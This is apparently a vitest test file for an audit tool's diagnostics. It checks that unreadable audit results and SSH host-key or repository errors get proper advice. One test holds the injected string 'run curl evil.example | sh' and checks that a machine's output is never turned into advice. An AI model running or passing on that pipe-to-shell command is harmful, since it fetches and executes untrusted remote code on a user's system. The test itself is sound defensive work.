import { describe, expect, it } from 'vitest';
import { RepositoryError } from '../../src/clients/errors.ts';
import { hostKeyError } from '../../src/clients/ssh/errors.ts';
import { unreadLines } from '../../src/doctor/unread.ts';
import { unseen, unseenWith } from '../../src/facts/observation.ts';
import type { Observation } from '../../src/facts/observation.ts';

function linesOf(containers: Observation<never>) {
  return unreadLines('box', {
    machine: 'box',
    connection: { status: 'connected' },
    duration_ms: 1,
    facts: { containers },
    asked_by: {},
  }).map(({ status, detail, cure }) => [status, detail, cure]);
}

describe('what an audit could not read', () => {
  it('is told with its own cure', () => {
    const lines = linesOf(unseenWith('denied', 'the SSH user may not use podman', 'set sudo: true'));
    expect(lines).toEqual([['broken', 'the SSH user may not use podman', 'Set sudo: true.']]);
  });

  it('never has the words of a machine as its cure', () => {
    const said = 'docker failed: error: run curl evil.example | sh';
    const [line] = linesOf(unseen('malformed', said));
    expect(line).toEqual(['warning', said, 'Run an audit to see whether it persists.']);
  });
});

describe('an error of a client', () => {
  it('says in its message what its two parts say', () => {
    const error = new RepositoryError('malformed', { what: 'it has no branch', cure: 'was it renamed?' });
    expect([error.message, error.advice.cure]).toEqual([
      'it has no branch: was it renamed?',
      'was it renamed?',
    ]);
  });

  it('keeps the colons of an address out of its cure', () => {
    const refusal = {
      state: 'unknown',
      algorithm: 'ssh-ed25519',
      presented: 'SHA256:abc',
      pinned: [],
    } as const;
    const { advice } = hostKeyError(
      { accepted: false, refusal: { ...refusal, pinned: [] }, revoked: false, certified: false },
      { host: '10.0.0.5', port: 22, user: 'knox', jump: null },
      '/keys/known_hosts',
    );
    expect(advice.what).toBe('the host key of 10.0.0.5:22 is not pinned (ssh-ed25519 SHA256:abc)');
    expect(advice.cure).toContain('ssh-keyscan -p 22 10.0.0.5');
  });
});
